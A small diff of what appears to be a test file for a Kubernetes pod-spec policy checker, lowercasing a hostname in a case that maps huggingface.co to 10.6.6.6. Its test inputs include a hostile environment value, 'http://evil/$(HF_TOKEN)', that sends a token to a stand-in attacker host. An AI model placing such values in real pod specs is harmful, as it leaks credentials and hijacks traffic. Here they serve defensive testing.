@@ -180,7 +180,7 @@ def test_no_policy_allows_folders_of_the_node_in_overlays(volume: str) -> None:
             },
             "env[https_proxy]",
         ),
-        ({"hostAliases": [{"ip": "10.6.6.6", "hostnames": ["HuggingFace.co."]}]}, "hostAliases[10.6.6.6]"),
+        ({"hostAliases": [{"ip": "10.6.6.6", "hostnames": ["huggingface.co"]}]}, "hostAliases[10.6.6.6]"),
         (
             {"containers": [{"name": "vllm", "env": [{"name": "OTEL_URL", "value": "http://evil/$(HF_TOKEN)"}]}]},
             "env[OTEL_URL]",
